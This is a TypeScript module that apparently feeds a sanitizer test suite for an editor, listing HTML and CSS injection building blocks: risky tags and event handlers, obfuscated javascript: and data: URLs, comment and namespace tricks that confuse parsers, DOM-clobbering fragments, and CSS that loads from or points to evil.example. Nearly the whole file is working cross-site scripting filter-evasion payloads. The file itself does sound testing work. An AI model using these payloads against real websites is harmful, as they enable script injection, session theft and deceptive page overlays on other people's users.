/** The parts that attacks by HTML are made of. What runs calls `alert`. */

export const code = 'alert(1)'

/** Tags that run, load, send, embed or break out, and tags of the editor that are made to. */
export const tags: readonly string[] = (
  'a abbr article audio b base blink blockquote body br button canvas col custom-element details' +
  ' dialog div dl em embed fieldset font form frameset h2 head hr html iframe image img input' +
  ' isindex keygen label li link map marquee math menu meta nav object ol option p portal script' +
  ' select slot source span strong style svg table td template textarea th title track u ul video' +
  ' xml xss'
).split(' ')

export const handlers: readonly string[] = (
  'onabort onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput onbeforematch' +
  ' onbeforetoggle onbegin onblur oncanplay onclick oncontextmenu' +
  ' oncontentvisibilityautostatechange oncut ondrag onend onerror onfinish onfocus onfocusin' +
  ' onhashchange oninput oninvalid onkeydown onload onloadstart onmessage onmouseenter onmouseover' +
  ' onpageshow onpaste onpointerenter onpointerrawupdate onreadystatechange onrepeat onresize' +
  ' onscroll onscrollend onscrollsnapchange onselectstart onstart onsubmit ontoggle ontouchstart' +
  ' ontransitionend ontransitionrun onunhandledrejection onunload onwebkitanimationend onwheel' +
  ' ONERROR'
).split(' ')

/** An attribute behind a tag's name, written in the ways that browsers read. */
export const writings: readonly ((name: string, value: string) => string)[] = [
  (name, value) => ` ${name}="${value}"`,
  (name, value) => ` ${name}='${value}'`,
  (name, value) => ` ${name}=${value}`,
  (name, value) => `/${name}=${value}`,
  (name, value) => `\n${name}\n=\n"${value}"`,
  (name, value) => `\t${name}\f=\r${value}`,
  (name, value) => ` x="y"${name}="${value}"`,
  (name, value) => ` ${name}="${value}" ${name}="1"`,
  (name, value) => ` "><i ${name}="${value}"`,
  (name, value) => ` '"${name}="${value}"`,
  (name, value) => ` \0${name}="${value}"`,
  (name, value) => ` x=\`${name}=${value}\``,
]

/** Where addresses are: tag, attribute, and what is around it. */
export const addressed: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' target=_self>x</a>`,
  (address) => `<a href=${address}>x</a>`,
  (address) => `<a xlink:href="${address}">x</a>`,
  (address) => `<a ping="${address}" href="/order/my-orders">x</a>`,
  (address) => `<area href="${address}">`,
  (address) => `<img src="${address}">`,
  (address) => `<img srcset="${address} 1x">`,
  (address) => `<img lowsrc="${address}" dynsrc="${address}">`,
  (address) => `<image xlink:href="${address}">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<button formaction="${address}">x</button>`,
  (address) => `<input type=image src="${address}" formaction="${address}">`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<video poster="${address}" src="${address}"></video>`,
  (address) => `<audio><source src="${address}"></audio>`,
  (address) => `<link rel=stylesheet href="${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<table background="${address}"><tr><td background="${address}">x</td></tr></table>`,
  (address) => `<blockquote cite="${address}">x</blockquote>`,
  (address) => `<svg><a xlink:href="${address}"><text y=20>x</text></a></svg>`,
  (address) => `<svg><use href="${address}#x"></use></svg>`,
  (address) => `<svg><animate attributeName=href values="${address}"></animate></svg>`,
  (address) => `<svg><a><set attributeName=href to="${address}"></set><text>x</text></a></svg>`,
  (address) => `<math href="${address}"><mtext>x</mtext></math>`,
  (address) => `<math><maction actiontype=statusline xlink:href="${address}">x</maction></math>`,
]

const colon = String.fromCharCode(0x3a)

/** Addresses that run, leave the product, or look like one of ours. */
export const addresses: readonly string[] = [
  ...['javascript', 'JavaScript', 'jAvAsCrIpT', 'vbscript', 'livescript', 'mocha', 'feed:javascript'].map(
    (scheme) => `${scheme}${colon}${code}`,
  ),
  ...['&#106;avascript:', '&#x6a;avascript:', '&#0000106avascript:', '&#x000006Aavascript&#58;'].map(
    (scheme) => `${scheme}${code}`,
  ),
  ...['java&Tab;script:', 'java&NewLine;script:', 'java\tscript:', 'java\nscript:', 'java\rscript:'].map(
    (scheme) => `${scheme}${code}`,
  ),
  ...['javascript&colon;', 'javascript&#x3A;', 'javascript\0:', 'java\0script:', 'javascript%3a'].map(
    (scheme) => `${scheme}${code}`,
  ),
  ...[' ', '&#1;', '&#14; ', '\u0001', '\u00a0', '\u2028', '\ufeff', '&#xfeff;', '&#8203;'].map(
    (before) => `${before}javascript${colon}${code}`,
  ),
  `javascript${colon}//%0a${code}`,
  `javascript${colon}/*--></title></style></textarea></script><svg onload=${code}>*/`,
  `javascript${colon}//https://bookrunner.example/%0a${code}`,
  `ｊａｖａｓｃｒｉｐｔ${colon}${code}`,
  `data:text/html,<script>${code}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${code}>`,
  `DATA:,${code}`,
  `blob:https://evil.example/1`,
  'filesystem:https://evil.example/x',
  'view-source:https://evil.example',
  'file:///etc/passwd',
  'intent://evil#Intent;scheme=x;end',
  'ms-word:ofe|u|https://evil.example/x.docm',
  '//evil.example/x',
  '\\\\evil.example\\x',
  '/\\evil.example',
  '/\t/evil.example',
  '/\n/evil.example',
  '/&Tab;/evil.example',
  'https:evil.example',
  'https:/\\evil.example" onmouseover="alert(1)',
  `"><script>${code}</script>`,
  `x" onerror="${code}`,
  `x' onerror='${code}`,
  `#" style="position:fixed;inset:0`,
]

/** Tags inside which the text is read another way, in HTML or in another namespace. */
export const wrappers: readonly string[] = (
  'noscript|title|textarea|style|xmp|iframe|noembed|noframes|plaintext|script|template|select' +
  '|option|svg|math|table|tbody|colgroup|caption|form|a|p|li|td|h2|strong|button|object' +
  '|annotation-xml|foreignObject|desc|mtext|mglyph|malignmark|listing|pre|math><mtext|svg><style' +
  '|svg><desc|svg><foreignObject|math><mtext><table><mglyph' +
  '|math><annotation-xml encoding=text/html|table><tr><td|frameset'
).split('|')

const image = `<img src=x onerror=${code}>`

/** Text that ends what is around it, or hides in it until it is read again. */
export const hidden: readonly string[] = [
  image,
  `<script>${code}</script>`,
  `<svg onload=${code}>`,
  `<!--${image}-->`,
  `<!-->${image}-->`,
  `<!--->${image}-->`,
  `<!--x--!>${image}-->`,
  `<!-- x="-->${image}">`,
  `<![CDATA[${image}]]>`,
  `<![CDATA[--><![CDATA[<img title="]]>${image}">`,
  `<?xml version="1.0"?>${image}`,
  `<?x ?>${image}?>`,
  `<!doctype x [<!entity e "${image}">]>&e;`,
  `<p title="</noscript></style></title></textarea></xmp></script>${image}">x</p>`,
  `<a id="</style>${image}">x</a>`,
  `<style><!--</style><img title="--&gt;${image.replaceAll('<', '&lt;').replaceAll('>', '&gt;')}">`,
  `<a title="&lt;/style&gt;${image.replaceAll('<', '&lt;')}">x</a>`,
  image.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  image.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  image.replaceAll('<', '&#60').replaceAll('>', '&#62'),
  image.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  image.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  image.replaceAll('<', '＜').replaceAll('>', '＞'),
  `<img src=x onerror=${code}//`,
  `<img src="x\`${image}"\`>`,
  `<<script>${code}//<</script>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<scr\0ipt>${code}</scr\0ipt>`,
  `<script/x>${code}</script/x>`,
  `<script >${code}</script\n>`,
  `</p ${image}>`,
  `</ ${image}>`,
  `<img """>${image}">`,
  `<div><form></div><form>${image}`,
  `</form><math><mtext></form><form><mglyph><style></math>${image}`,
  `<form><input name=attributes><input name=parentNode><input name=innerHTML></form>${image}`,
  `<a id=a><a id=a name=href href=/x>${image}`,
  `<p id=app></p><p id=root class=ant-modal name=body></p>`,
  `<svg></p><style><a id="</style>${image}">`,
  `<math><mi//xlink:href="data:x,${image}">`,
  `<table><a href="/x"><tr><td>${image}</a></table>`,
  `<select><style></select>${image}</style></select>`,
  `<p><svg><p>${image}</svg></p>`,
  `<annotation-xml><svg>${image}`,
]

/** Declarations that load, run, or leave their place. */
export const declarations: readonly string[] = [
  `background:url(javascript${colon}${code})`,
  'background-image:url(https://evil.example/x)',
  'background-color:url(https://evil.example/x)',
  'color:expression(alert(1))',
  'color:exp/**/ression(alert(1))',
  'color:\\65xpression(alert(1))',
  'color:red;background:u\\72l(https://evil.example)',
  'color:var(--x,url(https://evil.example))',
  'color:#fff}*{display:none',
  'color:#fff"onmouseover="alert(1)',
  'color:#fff&quot;onmouseover=&quot;alert(1)',
  'color:rgb(1,2,3);position:fixed;inset:0;z-index:9',
  'color:rgb(1,2,3)/*;*/;position:absolute',
  'text-align:center;position:fixed;top:0;left:0',
  'text-align:url(https://evil.example)',
  '-moz-binding:url(https://evil.example/x.xml#x)',
  'behavior:url(x.htc)',
  'list-style:url(https://evil.example/x)',
  'content:url(https://evil.example/x)',
  'cursor:url(https://evil.example/x),auto',
  'width:99999px;height:99999px',
  'font-family:"</style><script>alert(1)</script>"',
  '@import url(https://evil.example/x.css)',
  '{}*{color:red}',
  'color:red;;;:;}{',
]
